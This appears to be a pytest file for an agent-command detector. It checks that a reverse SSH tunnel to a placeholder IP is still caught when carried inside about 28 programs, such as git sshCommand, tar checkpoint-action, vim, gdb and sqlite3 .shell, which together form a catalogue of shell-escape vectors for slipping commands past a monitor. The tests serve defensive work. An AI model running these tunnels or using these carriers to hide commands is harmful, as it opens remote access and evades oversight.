"""Commands that one program carries for another are read, whichever way it was told."""

from __future__ import annotations

import pytest

from jupyter_agentwatch.detect.unwrap import invocations

TUNNEL = "ssh -N -R 2222:localhost:22 u@203.0.113.18"
CARRIERS = [
    f"git -c core.sshCommand='{TUNNEL}' fetch",
    f"git -c alias.x='!{TUNNEL}' x",
    f"GIT_SSH_COMMAND='{TUNNEL}' git fetch",
    f"PROMPT_COMMAND='{TUNNEL}' bash -i",
    f"tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='{TUNNEL}'",
    f"rsync -e '{TUNNEL}' a b:c",
    f"ssh -o LocalCommand='{TUNNEL}' host",
    f"mosh --ssh='{TUNNEL}' host",
    f"vim -c ':!{TUNNEL}' -c ':q'",
    f"vim '+!{TUNNEL}'",
    f"ed <<< '!{TUNNEL}'",
    f"gdb -batch -ex 'shell {TUNNEL}'",
    f"sqlite3 :memory: '.shell {TUNNEL}'",
    f"make -f - <<< 'all:;{TUNNEL}'",
    f"printf 'all:\\n\\t@{TUNNEL}\\n' | make -f -",
    f"expect -c 'spawn {TUNNEL}'",
    f"tclsh <<< 'exec {TUNNEL}'",
    f"ruby -e '`{TUNNEL}`'",
    f"perl -e 'system qw({TUNNEL})'",
    'perl -e \'exec("ssh","-N","-R","2222:localhost:22","u\\@203.0.113.18")\'',
    f"hyperfine '{TUNNEL}'",
    f"alias ls='{TUNNEL}'; ls",
    f"sg docker -c '{TUNNEL}'",
    f"capsh -- -c '{TUNNEL}'",
    f"tini -- {TUNNEL}",
    f"faketime yesterday {TUNNEL}",
    f"setpriv --no-new-privs {TUNNEL}",
    f"perf record {TUNNEL}",
]


@pytest.mark.parametrize("line", CARRIERS)
def test_a_command_is_found_wherever_a_program_carries_it(line: str) -> None:
    """Options, variables, inputs and texts that a program hands to a shell, or starts itself, are read as commands."""
    found = [run.argv for run in invocations(["bash", "-c", line]) if run.name == "ssh"]
    assert any(argv[1:4] == ("-N", "-R", "2222:localhost:22") for argv in found)


@pytest.mark.parametrize(
    "line",
    [
        f"git -c user.name='{TUNNEL}' commit",
        f"git -c alias.x='{TUNNEL}' x",
        f"vim -c '/{TUNNEL}'",
        f"sqlite3 :memory: 'select \"{TUNNEL}\"'",
        f"make -f Makefile <<< 'all:;{TUNNEL}'",
        f"tar cf '{TUNNEL}' x",
    ],
)
def test_what_a_program_only_reads_is_no_command(line: str) -> None:
    """A text in an option that nobody hands to a shell starts nothing."""
    assert [run.argv for run in invocations(["bash", "-c", line]) if run.name == "ssh"] == []
